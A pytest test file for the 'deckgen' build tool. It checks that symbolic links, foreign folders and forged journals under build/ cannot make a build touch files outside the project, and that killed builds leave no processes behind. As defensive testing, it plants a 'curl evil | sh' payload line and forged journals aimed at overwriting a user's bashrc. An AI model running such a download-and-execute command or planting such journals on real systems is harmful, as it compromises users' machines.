"""A project's build/ is untrusted too: links, foreign folders and forged journals there never
make a build write, read or delete outside the project; a build's processes die with it; the
cache key recorded is that of the bytes that went into the outputs; a source folder too deep or
too full is a located error in check and build alike."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from pypdf import PdfReader

from deckgen.build import keys
from deckgen.build.pipeline import BuildOptions, build
from deckgen.cli import main
from deckgen.errors import EnvironmentProblem
from deckgen.project import Project

REPO = Path(__file__).resolve().parents[1]
PDF_ONLY = BuildOptions(formats=("pdf",))
TIMEOUT = 20  # seconds a killed build's processes may take to end
OLD = time.time() - 3 * 24 * 3600  # older than any cached figure is kept


@pytest.fixture
def outside(tmp_path_factory):
    """A folder outside the project, its files (a user's dotfiles, say) to be kept as they are."""
    folder = tmp_path_factory.mktemp("outside")
    for name in ("bashrc", "notes.txt", "old.svg"):
        (folder / name).write_text(f"the user's own {name}\n")
        os.utime(folder / name, (OLD, OLD))
    return folder


def snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    """Every file under ``folder`` (links as links): its bytes and modification time."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_symlink():
            found[str(path.relative_to(folder))] = (os.readlink(path).encode(), 0)
        elif path.is_file():
            found[str(path.relative_to(folder))] = (path.read_bytes(), path.stat().st_mtime_ns)
    return found


def run(capsys, *args) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def pdf_text(project: Project) -> str:
    (path,) = project.build_dir.glob("*.pdf")
    return " ".join(page.extract_text() for page in PdfReader(path).pages)


def link_message(path: Path, target: Path) -> str:
    return (f"error: {path}: is a symbolic link (to {target}); deckgen writes only into real "
            "files and folders of the project (remove the link, then build again)\n")


# ---- links and foreign folders under build/ ----------------------------------------------------

def test_a_cloned_build_link_cannot_make_the_journal_replace_a_users_file(make_project, minimal_files,
                                                                          outside, capsys):
    """The project ships build/ as a link to its own folder, holding a journal whose move would
    put the project's file in place of the user's ~/.bashrc."""
    project = make_project(minimal_files)
    shipped = project.root / "shipped"
    (shipped / ".deckgen-cache").mkdir(parents=True)
    (shipped / "payload").write_text("curl evil | sh\n")
    journal = {"moves": [[str(shipped / "payload"), str(outside / "bashrc")]], "removes": [],
               "manifest": {"version": 1, "environment": {}, "outputs": {}}}
    (shipped / ".deckgen-cache" / "journal.json").write_text(json.dumps(journal))
    (project.root / "build").symlink_to("shipped")
    before, shipped_before = snapshot(outside), snapshot(shipped)

    code, out, err = run(capsys, "build", str(project.root))

    assert (code, out) == (2, "")
    assert err == link_message(project.build_dir, Path("shipped"))
    assert snapshot(outside) == before
    assert snapshot(shipped) == shipped_before


@pytest.mark.parametrize("linked", ["build", "build/.deckgen-cache", "build/.deckgen-tmp",
                                    "build/.deckgen-cache/figures"])
def test_a_folder_under_build_that_is_a_link_is_refused(make_project, minimal_files, outside,
                                                        capsys, linked):
    project = make_project(minimal_files)
    (project.root / linked).parent.mkdir(parents=True, exist_ok=True)
    (project.root / linked).symlink_to(outside)
    before = snapshot(outside)

    code, out, err = run(capsys, "build", str(project.root))

    assert (code, out) == (2, "")
    assert err == link_message(project.root / linked, outside)
    assert snapshot(outside) == before
    assert not list(project.root.glob("build/*.p*"))  # nothing was written


def test_a_linked_tmp_folder_of_an_earlier_layout_is_never_cleared(make_project, minimal_files,
                                                                   outside, capsys):
    project = make_project(minimal_files)
    (project.build_dir / ".deckgen-cache").mkdir(parents=True)
    (project.build_dir / ".deckgen-cache" / "tmp").symlink_to(outside)
    before = snapshot(outside)

    code, _, err = run(capsys, "build", str(project.root))

    assert (code, err) == (0, "")
    assert snapshot(outside) == before


def test_a_lock_that_is_a_link_is_refused(make_project, minimal_files, outside, capsys):
    """Opening the lock would create a file at the link's target, outside the project."""
    project = make_project(minimal_files)
    (project.build_dir / ".deckgen-cache").mkdir(parents=True)
    link = project.build_dir / ".deckgen-cache" / "lock"
    link.symlink_to(outside / "made-by-deckgen")
    before = snapshot(outside)

    code, out, err = run(capsys, "build", str(project.root))

    assert (code, out) == (2, "")
    assert err == link_message(link, outside / "made-by-deckgen")
    assert snapshot(outside) == before


def test_a_journal_that_is_a_link_is_discarded_unread(make_project, minimal_files, outside, capsys):
    project = make_project(minimal_files)
    (outside / "journal.json").write_text(json.dumps(
        {"moves": [[str(outside / "notes.txt"), str(outside / "bashrc")]], "removes": [],
         "manifest": {"version": 1, "environment": {}, "outputs": {}}}))
    (project.build_dir / ".deckgen-cache").mkdir(parents=True)
    link = project.build_dir / ".deckgen-cache" / "journal.json"
    link.symlink_to(outside / "journal.json")
    before = snapshot(outside)

    code, _, err = run(capsys, "build", str(project.root))

    assert code == 0
    assert err == ("build/.deckgen-cache/journal.json: warning: discarded the journal of an "
                   "interrupted build: it is a symbolic link or not a regular file, which deckgen "
                   "never writes (nothing to do: what it would have finished is rendered again)\n")
    assert snapshot(outside) == before
    assert not link.exists() and not link.is_symlink()


def test_a_manifest_linked_to_a_pipe_outside_neither_hangs_nor_is_read(make_project, minimal_files,
                                                                       outside):
    project = make_project(minimal_files)
    (project.build_dir / ".deckgen-cache").mkdir(parents=True)
    os.mkfifo(outside / "pipe")
    (project.build_dir / ".deckgen-cache" / "manifest.json").symlink_to(outside / "pipe")

    done = subprocess.run([sys.executable, "-c", "from deckgen.cli import entry_point; entry_point()",
                           "build", "--only", "pdf", str(project.root)],
                          capture_output=True, text=True, timeout=60, check=False)

    assert done.returncode == 0, done.stderr
    manifest = project.build_dir / ".deckgen-cache" / "manifest.json"
    assert not manifest.is_symlink() and json.loads(manifest.read_text())["version"] == 1


def test_a_link_in_the_figure_cache_is_replaced_not_read_or_touched(make_project, minimal_files,
                                                                    outside):
    project = make_project(minimal_files)
    build(project, PDF_ONLY)
    figures = project.build_dir / ".deckgen-cache" / "figures"
    (cached,) = figures.glob("*.svg")
    secret = outside / "secret.svg"
    secret.write_bytes(cached.read_bytes().replace(b"</svg>", b"<text>SECRET-OUTSIDE</text></svg>"))
    os.utime(secret, (OLD, OLD))
    cached.unlink()
    cached.symlink_to(secret)
    before = snapshot(outside)
    section = project.source / "sections" / "one.md"
    section.write_text(section.read_text().replace("Some prose", "Some edited prose"))

    result = build(project, PDF_ONLY)

    assert result.cache["figures"] == {"hits": 0, "rendered": 1}
    assert snapshot(outside) == before
    assert not cached.is_symlink()
    assert "SECRET-OUTSIDE" not in pdf_text(project)


@pytest.mark.parametrize("folder", ["build", "build/.deckgen-cache"])
def test_a_build_folder_of_another_user_is_refused(make_project, minimal_files, capsys, folder):
    if os.geteuid() != 0:
        pytest.skip("giving a folder to another user needs root")
    project = make_project(minimal_files)
    (project.root / folder).mkdir(parents=True)
    os.chown(project.root / folder, 12345, 12345)

    code, out, err = run(capsys, "build", str(project.root))

    assert (code, out) == (2, "")
    assert err == (f"error: {project.root / folder}: the folder belongs to another user (uid 12345); "
                   "deckgen writes only into folders you own (remove it, or build a copy of the "
                   "project you own)\n")
    assert list((project.root / folder).iterdir()) == []


# ---- the journal, checked as data ----------------------------------------------------------------

MANIFEST = {"version": 1, "environment": {}, "outputs": {}}


def journals(outside: Path) -> dict[str, object]:
    return {
        "moves not a list": {"moves": 5},
        "not an object": "moves",
        "names not strings": {"moves": [[1, 2]], "removes": [], "manifest": MANIFEST},
        "absolute paths": {"moves": [[str(outside / "notes.txt"), str(outside / "bashrc")]],
                           "removes": [], "manifest": MANIFEST},
        "up and out": {"moves": [["../../../outside/notes.txt", "../../bashrc"]], "removes": [],
                       "manifest": MANIFEST},
        "removal outside": {"moves": [], "removes": [str(outside / "bashrc")], "manifest": MANIFEST},
        "manifest of the wrong shape": {"moves": [], "removes": [], "manifest": {"outputs": 3}},
    }


NOTICES = {
    "moves not a list": "its 'moves' and 'removes' are not lists",
    "not an object": "it is not a JSON object",
    "names not strings": "a move is not from tmp/ to an output in build/: [1, 2]",
    "absolute paths": "a move is not from tmp/ to an output in build/: [\"{o}/notes.txt\", \"{o}/bashrc\"]",
    "up and out": ("a move is not from tmp/ to an output in build/: "
                   "[\"../../../outside/notes.txt\", \"../../bashrc\"]"),
    "removal outside": "a removal is not of an output in build/: \"{o}/bashrc\"",
    "manifest of the wrong shape": "its manifest is not one deckgen writes",
}


@pytest.mark.parametrize("kind", list(NOTICES))
def test_a_journal_deckgen_could_not_have_written_is_discarded_with_a_notice(
        make_project, minimal_files, outside, capsys, kind):
    project = make_project(minimal_files)
    build(project, PDF_ONLY)
    journal = project.build_dir / ".deckgen-cache" / "journal.json"
    journal.write_text(json.dumps(journals(outside)[kind]))
    before = snapshot(outside)

    code, out, err = run(capsys, "build", "--only", "pdf", str(project.root))

    assert code == 0
    notice = NOTICES[kind].replace("{o}", str(outside))
    assert err == ("build/.deckgen-cache/journal.json: warning: discarded the journal of an "
                   f"interrupted build: {notice} (nothing to do: what it would have finished is "
                   "rendered again)\n")
    assert out.startswith("up to date: ")
    assert not journal.exists()
    assert snapshot(outside) == before


def test_a_move_that_fails_is_a_clear_error_and_the_next_build_completes_it(
        make_project, minimal_files, monkeypatch, capsys):
    """As when build/.deckgen-cache is on another file system than build/ (EXDEV)."""
    project = make_project(minimal_files)
    build(project)
    section = project.source / "sections" / "one.md"
    section.write_text(section.read_text().replace("Some prose", "Some moved prose"))
    real_replace = os.replace

    def cross_device(source, target, **kwargs):
        if str(target).endswith(".pptx"):
            raise OSError(errno.EXDEV, os.strerror(errno.EXDEV), str(source), None, str(target))
        return real_replace(source, target, **kwargs)

    monkeypatch.setattr(os, "replace", cross_device)
    code, out, err = run(capsys, "build", str(project.root))
    assert (code, out) == (2, "")
    assert err == (f"error: {project.build_dir}: could not move the new outputs into place: "
                   "Invalid cross-device link (make room or fix the folder's permissions; the next "
                   "build finishes the move or renders the outputs again)\n")
    assert (project.build_dir / ".deckgen-cache" / "journal.json").exists()

    monkeypatch.setattr(os, "replace", real_replace)
    code, out, err = run(capsys, "build", str(project.root))
    assert (code, err) == (0, "")
    assert out.count("up to date: ") == 2  # the journal's moves were completed
    assert "Some moved prose" in pdf_text(project)
    assert not (project.build_dir / ".deckgen-cache" / "journal.json").exists()


def test_a_journal_whose_moves_fail_again_is_discarded_and_the_outputs_rendered_again(
        make_project, minimal_files, monkeypatch, capsys):
    project = make_project(minimal_files)
    build(project, PDF_ONLY)
    section = project.source / "sections" / "one.md"
    section.write_text(section.read_text().replace("Some prose", "Some moved prose"))
    real_replace = os.replace
    unmovable: set[str] = set()

    def cross_device(source, target, **kwargs):
        if str(target).endswith(".pdf") and (not unmovable or source in unmovable):
            unmovable.add(source)  # this staged file can never be moved
            raise OSError(errno.EXDEV, os.strerror(errno.EXDEV))
        return real_replace(source, target, **kwargs)

    monkeypatch.setattr(os, "replace", cross_device)
    assert run(capsys, "build", "--only", "pdf", str(project.root))[0] == 2

    code, out, err = run(capsys, "build", "--only", "pdf", str(project.root))

    assert code == 0
    assert err == (f"build/.deckgen-cache/journal.json: warning: discarded the journal of an "
                   f"interrupted build: its moves failed again ({project.build_dir}: could not move "
                   "the new outputs into place: Invalid cross-device link (make room or fix the "
                   "folder's permissions; the next build finishes the move or renders the outputs "
                   "again)) (nothing to do: what it would have finished is rendered again)\n")
    assert out.startswith("wrote: ")
    assert "Some moved prose" in pdf_text(project)
    assert list((project.build_dir / ".deckgen-tmp").iterdir()) == []


# ---- the walk of source/ -------------------------------------------------------------------------

@pytest.fixture
def nest():
    """Make ``levels`` folders, one in the other, under a folder; removed again afterwards
    (without recursion, which 1,100 levels would exhaust)."""
    made: list[Path] = []

    def make(folder: Path, levels: int) -> Path:
        path = folder
        folder.mkdir()
        for _ in range(levels):
            path = path / "d"
            os.mkdir(path)
            made.append(path)
        return path

    yield make
    for path in reversed(made):
        for child in path.iterdir():
            child.unlink()
        path.rmdir()


def too_deep(top: str) -> str:
    """The error for folders nested under ``source/<top>/`` one level past the limit."""
    return (f"source/{top}/" + "d/" * keys.MAX_TREE_DEPTH + ": folders nested too deeply "
            f"(at most {keys.MAX_TREE_DEPTH} levels of folders under source/)\n"
            "1 error in the source; nothing was written.\n")


@pytest.mark.parametrize("command", ["check", "build"])
def test_folders_nested_too_deeply_are_a_located_error(make_project, minimal_files, capsys, nest,
                                                       command):
    project = make_project(minimal_files)
    nest(project.source / "unused", 1_100)

    code, out, err = run(capsys, command, str(project.root))

    assert (code, out) == (1, "")
    assert err == too_deep("unused")
    assert not project.build_dir.exists() or not list(project.build_dir.glob("*.p*"))


def test_folders_nested_to_the_limit_are_fine_and_one_more_is_not(make_project, minimal_files,
                                                                  capsys, nest):
    project = make_project(minimal_files)
    (nest(project.source / "unused", keys.MAX_TREE_DEPTH - 1) / "note.txt").write_text("x")
    assert run(capsys, "check", str(project.root))[0] == 0
    (nest(project.source / "deeper", keys.MAX_TREE_DEPTH) / "note.txt").write_text("x")
    assert run(capsys, "check", str(project.root))[2] == too_deep("deeper")


@pytest.mark.parametrize("command", ["check", "build"])
@pytest.mark.parametrize("kind", ["files", "folders"])
def test_too_many_files_or_folders_are_a_located_error(make_project, minimal_files, capsys, command,
                                                       kind):
    project = make_project(minimal_files)
    unused = project.source / "unused"
    unused.mkdir()
    for number in range(keys.MAX_TREE_ENTRIES):
        if kind == "files":
            (unused / f"{number}.txt").touch()
        else:
            (unused / str(number)).mkdir()

    code, out, err = run(capsys, command, str(project.root))

    assert (code, out) == (1, "")
    limit = f"{keys.MAX_TREE_ENTRIES:,}"
    assert err == (f"source/unused/: more than {limit} files and folders under source/ (at most "
                   f"{limit}: keep only the brief's files under source/)\n"
                   "1 error in the source; nothing was written.\n")


# ---- the key recorded is that of the bytes read ---------------------------------------------------

def save_during_the_load(monkeypatch, path: Path, text: str) -> None:
    """The author saves ``path`` after the build hashed the source and before it loads it."""
    from deckgen.load import loader

    real = loader.load_project

    def saved_then_loaded(root):
        path.write_text(text)
        return real(root)

    monkeypatch.setattr(loader, "load_project", saved_then_loaded)


@pytest.mark.parametrize("options", [PDF_ONLY, BuildOptions()], ids=["pdf", "both"])
def test_undoing_a_save_made_during_a_build_renders_again(make_project, minimal_files, monkeypatch,
                                                          options):
    project = make_project(minimal_files)
    build(project, options)
    section = project.source / "sections" / "one.md"
    section.write_text(section.read_text().replace("Some prose", "Before the build"))
    saved_before = section.read_text()
    save_during_the_load(monkeypatch, section, saved_before.replace("Before the build", "Saved during"))
    build(project, options)
    assert "Saved during" in pdf_text(project)
    monkeypatch.undo()
    section.write_text(saved_before)  # the author undoes the save

    result = build(project, options)

    assert not result.up_to_date
    assert "Before the build" in pdf_text(project) and "Saved during" not in pdf_text(project)


def test_keeping_a_save_made_during_a_build_is_up_to_date(make_project, minimal_files, monkeypatch):
    project = make_project(minimal_files)
    brief = project.source / "brief.yaml"
    build(project, PDF_ONLY)
    brief.write_text(brief.read_text().replace("A minimal brief", "A first title"))
    save_during_the_load(monkeypatch, brief, brief.read_text().replace("A first title", "A saved title"))
    build(project, PDF_ONLY)
    monkeypatch.undo()

    result = build(project, PDF_ONLY)  # the disk holds what went into the PDF

    assert result.up_to_date
    assert "A saved title" in pdf_text(project)


def test_the_brief_records_the_digest_of_every_file_it_read(make_project, minimal_files):
    from deckgen.load.loader import load_project

    project = make_project(minimal_files)
    (project.source / "unused.txt").write_text("not read")
    brief = load_project(project.root)
    expected = {name.removeprefix("source/"): hashlib.sha256((project.root / name).read_bytes()).hexdigest()
                for name in minimal_files}
    assert dict(brief.source_digests) == expected
    assert {k: v for k, v in keys.file_digests(project.source).items() if k in expected} == expected


# ---- a killed build leaves no process behind -------------------------------------------------------

RENDERING_FOREVER = """
import sys, time
from deckgen.build import jobs

def rendering_forever(self, figures=None):
    (figures or self.figures_drawn_here()).payload()  # the figures are in: the deck renders now
    print("rendering", flush=True)
    time.sleep(600)

jobs.Jobs.pdf = rendering_forever
from deckgen.cli import main
sys.exit(main(sys.argv[1:]))
"""


def descendants(pid: int) -> list[int]:
    found, pending = [], [pid]
    while pending:
        parent = pending.pop()
        for task in Path(f"/proc/{parent}/task").glob("*"):
            try:
                children = [int(c) for c in (task / "children").read_text().split()]
            except OSError:
                continue
            found += children
            pending += children
    return found


def running(pid: int) -> bool:
    """True while ``pid`` runs: not gone, and not a zombie waiting to be reaped."""
    try:
        with open(f"/proc/{pid}/stat") as file:
            return file.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def all_end(pids: list[int]) -> bool:
    deadline = time.monotonic() + TIMEOUT
    while any(map(running, pids)) and time.monotonic() < deadline:
        time.sleep(0.05)
    return not any(map(running, pids))


@pytest.fixture
def example(tmp_path) -> Path:
    """The example brief: its deck is far larger than a pipe holds."""
    shutil.copytree(REPO / "source", tmp_path / "source")
    return tmp_path


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGKILL], ids=["SIGTERM", "SIGKILL"])
def test_no_process_of_a_build_killed_while_it_renders_survives(example, signum):
    build_process = subprocess.Popen([sys.executable, "-c", RENDERING_FOREVER, "build", str(example)],
                                     stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    children: list[int] = []
    try:
        assert build_process.stdout.readline() == "rendering\n"
        children = descendants(build_process.pid)
        assert len(children) == 1, children  # the deck's process
        build_process.send_signal(signum)
        build_process.wait(TIMEOUT)
        assert all_end(children), [pid for pid in children if running(pid)]
    finally:
        build_process.kill()
        for pid in children:  # only this test's own processes
            if running(pid):
                os.kill(pid, signal.SIGKILL)


def test_the_deck_process_has_none_of_its_parents_pipe_ends(example):
    """Each end of a pipe is held only where it is used: the deck's process holds only the
    ends it reads the jobs from and writes the figures and the deck to."""
    build_process = subprocess.Popen([sys.executable, "-c", RENDERING_FOREVER, "build", str(example)],
                                     stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    children: list[int] = []
    try:
        assert build_process.stdout.readline() == "rendering\n"
        children = descendants(build_process.pid)
        (child,) = children
        assert not _pipe_ends(child) & _pipe_ends(build_process.pid)
    finally:
        build_process.kill()
        build_process.wait(TIMEOUT)
        for pid in children:  # only this test's own processes
            if running(pid):
                os.kill(pid, signal.SIGKILL)


def _pipe_ends(pid: int) -> set[tuple[str, str]]:
    """(pipe inode, "r" or "w") of each pipe or socket end ``pid`` holds, but its standard streams."""
    ends = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        if int(fd.name) < 3:
            continue
        try:
            target = os.readlink(fd)
            flags = int((Path(f"/proc/{pid}/fdinfo") / fd.name).read_text().split("flags:")[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        if target.startswith(("pipe:", "socket:")):
            ends.add((target, "w" if flags & os.O_WRONLY else "r"))
    return ends


def test_a_build_never_writes_or_deletes_outside_the_project(make_project, minimal_files, outside,
                                                             capsys):
    """Every kind of planted link and journal at once, then two builds."""
    project = make_project(minimal_files)
    cache_dir = project.build_dir / ".deckgen-cache"
    cache_dir.mkdir(parents=True)
    (cache_dir / "tmp").symlink_to(outside)
    (cache_dir / "manifest.json").symlink_to(outside / "notes.txt")
    (project.build_dir / "a-minimal-brief.pdf").symlink_to(outside / "bashrc")
    (cache_dir / "journal.json").write_text(json.dumps(
        {"moves": [[str(outside / "notes.txt"), str(outside / "bashrc")]],
         "removes": [str(outside / "old.svg")], "manifest": MANIFEST}))
    before = snapshot(outside)

    assert run(capsys, "build", str(project.root))[0] == 0
    assert run(capsys, "build", str(project.root))[0] == 0
    assert snapshot(outside) == before
    assert {p.name for p in outside.iterdir()} == {"bashrc", "notes.txt", "old.svg"}


def test_a_build_through_the_library_raises_the_same_refusal(make_project, minimal_files, outside):
    project = make_project(minimal_files)
    (project.root / "build").symlink_to(outside)
    with pytest.raises(EnvironmentProblem, match="is a symbolic link"):
        build(project)


WATCH_RENDERING_FOREVER = """
import sys, time
from deckgen.build import jobs

calls = []

def rendering_forever_after_the_first(self, figures=None, real=jobs.Jobs.pdf):
    calls.append(1)
    if len(calls) == 1:
        return real(self, figures)
    (figures or self.figures_drawn_here()).payload()
    print("rendering", flush=True)
    time.sleep(600)

jobs.Jobs.pdf = rendering_forever_after_the_first
from deckgen.cli import main
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGKILL], ids=["SIGTERM", "SIGKILL"])
def test_the_watchs_deck_renderer_dies_with_it_while_it_renders(example, signum):
    watch_process = subprocess.Popen([sys.executable, "-c", WATCH_RENDERING_FOREVER, "watch",
                                      str(example)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     text=True)
    children: list[int] = []
    try:
        for line in watch_process.stdout:
            if line.startswith("ready"):
                break
        section = next((example / "source" / "sections").glob("*.md"))
        section.write_text(section.read_text() + "\nOne more sentence.\n")
        for line in watch_process.stdout:
            if line == "rendering\n":
                break
        children = descendants(watch_process.pid)
        assert len(children) == 1, children  # the long-lived deck renderer, rendering now
        watch_process.send_signal(signum)
        watch_process.wait(TIMEOUT)
        assert all_end(children)
        assert "Traceback" not in watch_process.stderr.read()  # its stderr is closed once it ends
    finally:
        watch_process.kill()
        for pid in children:  # only this test's own processes
            if running(pid):
                os.kill(pid, signal.SIGKILL)
